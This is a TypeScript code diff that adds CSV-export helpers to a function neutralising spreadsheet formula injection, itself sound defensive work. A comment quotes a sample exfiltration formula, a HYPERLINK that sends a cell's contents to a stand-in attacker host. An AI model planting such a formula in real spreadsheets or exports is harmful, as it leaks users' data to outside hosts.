@@ -6,13 +6,27 @@ const FORMULA_START = /(?<=^|[\r\n])(?=[=+\-@\t\r])/g;
  * `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula by a spreadsheet
  * (`=HYPERLINK("http://evil.test/?d="&A1,"Click")` from a nationality or a staff name), so it gets
  * a leading `'` and is read as text; so does every line inside the cell, as a reader that splits rows
- * on a lone carriage return would start a row there. Numbers stay numbers;
- * quoting is the CSV writer's job (admin/src/csv.ts quotes every field).
+ * on a lone carriage return would start a row there. Numbers stay numbers; csvText quotes every cell.
  */
 export function csvSafe(value: unknown): string | number {
   if (typeof value === 'number') return value;
   const text = value === null || value === undefined ? '' : String(value);
   return text.replace(FORMULA_START, "'");
+}
+
+/** A cell neutralised (csvSafe) and quoted, its quotes doubled (RFC 4180). */
+const csvCell = (value: unknown) => `"${String(csvSafe(value)).replace(/"/g, '""')}"`;
+
+/**
+ * Rows (header → value) as CSV text: a header line of every key, in the order met, then one line per
+ * row. Headers are cells like any other (an Admin's field label is one), so every cell is neutralised
+ * and quoted: a lone carriage return inside one cannot end a row, nor a quote break out of it.
+ */
+export function csvText(rows: ReadonlyArray<Record<string, unknown>>): string {
+  const headers = [...new Set(rows.flatMap((row) => Object.keys(row)))];
+  return [headers.map(csvCell), ...rows.map((row) => headers.map((header) => csvCell(row[header])))]
+    .map((cells) => cells.join(','))
+    .join('\r\n');
 }
 
 /**
